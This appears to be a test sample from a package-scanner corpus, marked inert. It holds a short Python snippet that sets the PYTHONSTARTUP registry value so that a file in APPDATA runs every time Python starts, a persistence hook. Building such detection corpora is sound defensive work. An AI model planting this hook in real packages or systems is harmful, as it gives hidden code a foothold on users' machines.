# pkgguard corpus 451 (startup-hook), modelled on [startup-hooks]; inert, never run.
import os
import winreg

hook = os.path.join(os.environ.get("APPDATA", ""), "pkg", "boot.py")
with winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Environment", 0, winreg.KEY_SET_VALUE) as env:
    winreg.SetValueEx(env, "PYTHONSTARTUP", 0, winreg.REG_SZ, hook)
